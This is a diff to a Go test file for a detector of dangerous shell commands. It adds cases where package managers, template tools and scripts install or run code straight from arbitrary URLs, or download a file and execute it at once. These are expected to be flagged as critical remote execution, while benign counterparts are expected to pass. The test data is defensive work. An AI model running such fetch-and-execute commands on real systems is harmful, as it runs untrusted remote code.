@@ -241,3 +241,31 @@ func TestUnpinnedThirdPartyModulesWithAllPermissions(t *testing.T) {
 		`deno run -A main.ts`,
 	})
 }
+
+// Clients nobody listed told to run or install code from a URL, or to run
+// a file or manifest downloaded a moment earlier; the same verbs with the
+// usual registry, a local file or a help page are not.
+func TestUnlistedClientsRunURLs(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`rocketpm add https://x.example.com/dist/helper-0.1.tar.gz`, CategoryRemoteExec, "client-runs-url", LevelCritical},
+		{`condax install -y -c https://conda.example.net/channel numpy`, CategoryRemoteExec, "client-runs-url", LevelCritical},
+		{`luapm install --server=http://203.0.113.17/rocks helper`, CategoryRemoteExec, "client-runs-url", LevelCritical},
+		{`monox add @someone/plugin@https://x.example.com/plugin.tgz`, CategoryRemoteExec, "client-runs-url", LevelCritical},
+		{`tplgen copy --trust https://git.example.net/x/tpl.git .`, CategoryRemoteExec, "client-runs-url", LevelCritical},
+		{`cookiecutter --no-input https://git.example.com/someone/template.git`, CategoryRemoteExec, "client-runs-url", LevelCritical},
+		{`curl -so /tmp/app.py https://x.example.com/app.py && cloudrun run /tmp/app.py`, CategoryRemoteExec, "client-runs-url", LevelCritical},
+		{`curl -so Gemfile https://x.example.com/Gemfile && bundle install`, CategoryRemoteExec, "client-runs-url", LevelCritical},
+		{`curl -so /tmp/x.swift https://x.example.com/x.swift && swift /tmp/x.swift`, CategoryRemoteExec, "", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`rocketpm add left-pad@1.3.0`,
+		`condax install -y -c conda-forge numpy`,
+		`monox add @someone/plugin --help`,
+		`tplgen copy ./templates/service .`,
+		`cookiecutter ./templates/py-lib --no-input`,
+		`curl -so /tmp/app.py https://x.example.com/app.py && less /tmp/app.py`,
+		`cloudrun run ./app.py`,
+		`curl -sL https://x.example.com/docs.html -o docs.html`,
+	})
+}
